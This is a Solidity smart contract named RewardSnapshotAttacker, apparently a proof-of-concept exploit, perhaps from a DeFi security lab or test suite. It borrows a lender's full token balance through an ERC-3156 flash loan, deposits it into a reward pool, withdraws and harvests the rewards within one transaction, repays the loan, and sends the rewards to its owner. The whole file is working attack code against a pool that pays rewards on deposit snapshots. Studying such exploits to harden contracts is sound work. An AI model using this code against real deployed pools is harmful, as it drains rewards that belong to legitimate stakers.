// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IRewardPool} from "./IRewardPool.sol";

/// @title RewardSnapshotAttacker
/// @notice Borrows every token the lender has, stakes it, leaves with the rewards in the same
/// transaction, repays, and hands the rewards and what is left of the fee money to its owner.
contract RewardSnapshotAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    error AttackerNotOwner(address caller);
    error AttackerUntrustedLoan(address lender, address initiator);

    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    IERC3156FlashLender public immutable lender;
    IRewardPool public immutable pool;
    IERC20 public immutable token;
    IERC20 public immutable rewardToken;
    address public immutable owner;

    constructor(
        IERC3156FlashLender lender_,
        IRewardPool pool_,
        IERC20 token_,
        IERC20 rewardToken_,
        address owner_
    ) {
        lender = lender_;
        pool = pool_;
        token = token_;
        rewardToken = rewardToken_;
        owner = owner_;
    }

    /// @notice Runs the attack; the owner must have sent this contract the loan's fee beforehand.
    function attack() external {
        if (msg.sender != owner) revert AttackerNotOwner(msg.sender);
        address tokenAddress = address(token);
        lender.flashLoan(this, tokenAddress, lender.maxFlashLoan(tokenAddress), "");
        rewardToken.safeTransfer(owner, rewardToken.balanceOf(address(this)));
        token.safeTransfer(owner, token.balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address initiator,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata
    ) external returns (bytes32) {
        if (msg.sender != address(lender) || initiator != address(this)) {
            revert AttackerUntrustedLoan(msg.sender, initiator);
        }
        token.forceApprove(address(pool), amount);
        pool.deposit(0, amount, address(this));
        pool.withdrawAndHarvest(0, amount, address(this));
        token.forceApprove(address(lender), amount + fee);
        return CALLBACK_SUCCESS;
    }
}
